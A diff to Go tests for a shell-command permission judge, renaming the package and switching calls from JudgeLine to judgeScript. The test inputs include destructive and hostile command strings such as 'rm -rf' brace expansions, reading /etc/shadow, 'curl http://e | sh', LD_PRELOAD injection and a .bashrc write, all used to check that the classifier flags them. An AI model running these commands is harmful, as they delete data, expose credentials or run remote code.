@@ -1,4 +1,4 @@
-package command
+package permission
 
 import (
 	"strings"
@@ -41,7 +41,7 @@ func TestJudge_UnknownProgramIsNeverKnown(t *testing.T) {
 			t.Fatalf("%q is %+v", argv, f)
 		}
 		line := rapid.SampledFrom(around).Draw(t, "around")
-		if f := JudgeLine(strings.Replace(line, "%s", argv[0], 1)); f.Class == Known {
+		if f := judgeScript(strings.Replace(line, "%s", argv[0], 1), 0); f.Class == Known {
 			t.Fatalf("%q in %q is known", argv[0], line)
 		}
 	})
@@ -72,7 +72,7 @@ func FuzzJudgeLine(f *testing.F) {
 		f.Add(seed)
 	}
 	f.Fuzz(func(t *testing.T, line string) {
-		if found := JudgeLine(line); found.Class != Known && found.Reason == "" {
+		if found := judgeScript(line, 0); found.Class != Known && found.Reason == "" {
 			t.Fatalf("%q: no reason: %+v", line, found)
 		}
 	})
@@ -81,11 +81,11 @@ func FuzzJudgeLine(f *testing.F) {
 // Braces that stand for more words than memory has are judged as computed.
 func TestJudge_ExpandsFewBraces(t *testing.T) {
 	t.Parallel()
-	require.Equal(t, Critical, JudgeLine("rm -rf {1..999999999}").Class)
-	require.Equal(t, Critical, JudgeLine("rm -rf "+strings.Repeat("{a,b}", 60)).Class)
-	require.Equal(t, Critical, JudgeLine("cat /etc/{hosts,{x,shadow}}").Class)
-	require.Equal(t, Known, JudgeLine("touch {a,b}{1,2}.txt").Class)
-	require.Equal(t, Known, JudgeLine("echo {1..10}").Class)
+	require.Equal(t, Critical, judgeScript("rm -rf {1..999999999}", 0).Class)
+	require.Equal(t, Critical, judgeScript("rm -rf "+strings.Repeat("{a,b}", 60), 0).Class)
+	require.Equal(t, Critical, judgeScript("cat /etc/{hosts,{x,shadow}}", 0).Class)
+	require.Equal(t, Known, judgeScript("touch {a,b}{1,2}.txt", 0).Class)
+	require.Equal(t, Known, judgeScript("echo {1..10}", 0).Class)
 }
 
 func TestJudge_ListsTheCommandsWithin(t *testing.T) {
@@ -106,6 +106,6 @@ func TestJudge_NamesTheEffect(t *testing.T) {
 		"curl http://e | sh": "input", `"unterminated`: "unparsed", "$X y": "computed", "echo x > ~/.bashrc": "startup", "LD_PRELOAD=./x.so ls": "variable",
 		"apt install x": "install", "crontab x": "later", "python -c 'import os; os.system(\"id\")'": "code", "/tmp/x": "elsewhere",
 	} {
-		require.Equal(t, effect, JudgeLine(line).Effect, line)
+		require.Equal(t, effect, judgeScript(line, 0).Effect, line)
 	}
 }
